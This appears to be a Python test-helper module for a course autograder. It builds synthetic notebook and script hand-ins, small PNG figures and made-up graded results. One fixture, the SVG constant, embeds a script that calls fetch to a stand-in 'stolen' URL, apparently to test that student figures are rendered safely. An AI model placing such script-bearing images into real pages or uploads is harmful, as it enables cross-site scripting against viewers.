"""A class of notebooks and scripts, stored as if it had been graded: nothing is run."""

import base64
import copy
import hashlib
import json
import struct
import zlib
from collections.abc import Mapping
from functools import cache
from pathlib import Path
from typing import Any

from autograder.assignments.assignment4 import ASSIGNMENT
from autograder.commands.grade import GradeCall
from autograder.grading.batch import key_of
from autograder.grading.result_json import result_json
from autograder.grading.roll import Roll
from autograder.grading.store import Store
from autograder.handout.notebook_conversion import notebook_text
from autograder.handout.render import render
from autograder.intake.discovery import discover
from autograder.variant import load_variant
from tests.strategies.made_up import made_up_class

VARIANT = load_variant()
STUB = "*Write your comment here.*"
SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="80" height="40">'
    '<script>fetch("http://example.org/stolen"); alert(1)</script><rect width="80" height="40"/></svg>'
)


def png(width: int = 3, height: int = 2) -> str:
    """Return a small white picture, in base64 as notebooks hold it."""
    lines = b"".join(b"\x00" + b"\xff" * width for _ in range(height))

    def chunk(kind: bytes, data: bytes) -> bytes:
        check = struct.pack(">I", zlib.crc32(kind + data))
        return struct.pack(">I", len(data)) + kind + data + check

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    data = chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(lines)) + chunk(b"IEND", b"")
    return base64.b64encode(b"\x89PNG\r\n\x1a\n" + data).decode()


@cache
def handout() -> str:
    """Return the handout as a percent script."""
    return render(VARIANT, "skeleton", ASSIGNMENT)


@cache
def _notebook() -> dict[str, Any]:
    return dict(json.loads(notebook_text(handout())))


def notebook(
    answers: Mapping[str, str], figures: Mapping[str, dict[str, Any]] | None = None
) -> str:
    """Return the handout's notebook with written answers, and with figures under a question's code."""
    made = copy.deepcopy(_notebook())
    for place, cell in enumerate(made["cells"]):
        source = "".join(cell["source"])
        for question, text in answers.items():
            if f"Your comment on {question}**" in source:
                cell["source"] = source.replace(STUB, text)
        for question, data in (figures or {}).items():
            if source.startswith(f"## {question} "):
                output = {"output_type": "display_data", "data": data, "metadata": {}}
                made["cells"][place + 1]["outputs"] = [output]
    return json.dumps(made)


def script(answers: Mapping[str, str]) -> str:
    """Return the handout's script with written answers."""
    before, *parts = handout().split("**Your comment on ")
    made = before
    for part in parts:
        question = part[:2]
        text = answers.get(question, STUB).replace("\n", "\n# ")
        made += "**Your comment on " + part.replace(STUB, text)
    return made


def store_class(files: Mapping[str, str], folder: Path) -> Path:
    """Write hand-ins by their names under `folder`, and a store for them; return its folder."""
    handed, out = folder / "class", folder / "graded"
    handed.mkdir(parents=True)
    for name, content in files.items():
        (handed / name).write_text(content, "utf-8")
    store_results(handed, out)
    return out


def store_results(handed: Path, out: Path) -> None:
    """Store made-up results of the hand-ins under `handed` in the folder `out`."""
    entries = discover([handed], ASSIGNMENT.name).entries
    roll = Roll({entry.student: key_of(entry) for entry in entries}, (str(handed.resolve()),))
    call = GradeCall([handed], out, VARIANT, ASSIGNMENT)
    made = made_up_class(len(entries), VARIANT, ASSIGNMENT)
    with Store(out).open(call.identity, roll=roll) as store:
        store.enrol(roll)
        for entry, result in zip(entries, made, strict=True):
            named = result.model_copy(update={"student": entry.student, "status": "graded"})
            digest = hashlib.sha256((handed / entry.submission).read_bytes()).hexdigest()
            store.put(key_of(entry), result_json(named), digest, {"q4": "def normalize(): ..."})
